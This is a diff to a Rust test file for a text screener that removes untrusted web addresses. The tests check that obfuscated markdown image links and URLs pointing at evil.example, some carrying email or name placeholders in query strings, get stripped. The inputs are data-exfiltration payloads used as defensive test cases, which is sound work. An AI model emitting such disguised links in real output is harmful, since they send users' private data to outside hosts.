@@ -19,6 +19,16 @@ fn addresses_of_strangers_are_removed_with_all_they_carry() {
         ("https://acme.my.salesforce.com@evil.example/", "[address removed]"),
         ("https://acme.my.salesforce.com.evil.example/", "[address removed]"),
         ("https:evil.example", "[address removed]"),
+        (r"![x](https\://evil.example/?d={EMAIL_1})", "![x](https[address removed])"),
+        (r"![x](/\/evil.example/?d={EMAIL_1})", "![x]([address removed])"),
+        (r"![x](\/\/evil.example)", "![x]([address removed])"),
+        ("![x](h&#116;tps://evil.example)", "![x](h[address removed])"),
+        ("![x](https&colon;&sol;&sol;evil.example)", "![x](https[address removed])"),
+        ("![x](&sol;/evil.example)", "![x]([address removed])"),
+        ("ahttps://evil.example", "ahttps[address removed]"),
+        ("ssh://evil.example", "ssh[address removed]"),
+        ("mailto:a@evil.example?body={NAME_1}", "[address removed]"),
+        ("//{ORG_1}evil?d={EMAIL_1}", "[address removed]"),
     ];
     for (text, expected) in cases {
         let out = screened(&[text]);
@@ -34,6 +44,7 @@ fn the_house_and_plain_text_pass() {
         "Hello, who wants what, and why? 50/50 and/or. a // b",
         "the data: three rows; http is a protocol, wss too",
         "ends with h",
+        r"AT&T, R&D; 12:30, a: b, C:\data and \* too",
         "ends with https",
     ] {
         let out = screened(&[text]);
@@ -43,7 +54,7 @@ fn the_house_and_plain_text_pass() {
 
 #[test]
 fn any_cutting_gives_the_same_output() {
-    let text = "a https://evil.example/{EMAIL_1}, hot www.x.example) w https://acme.my.salesforce.com/1 // é h";
+    let text = "a https://evil.example/{EMAIL_1}, hot www.x.example) w https://acme.my.salesforce.com/1 // é \\: &#x; a:// &sol h";
     let whole = screened(&[text]);
     for cut in (0..=text.len()).filter(|&cut| text.is_char_boundary(cut)) {
         let (left, right) = text.split_at(cut);
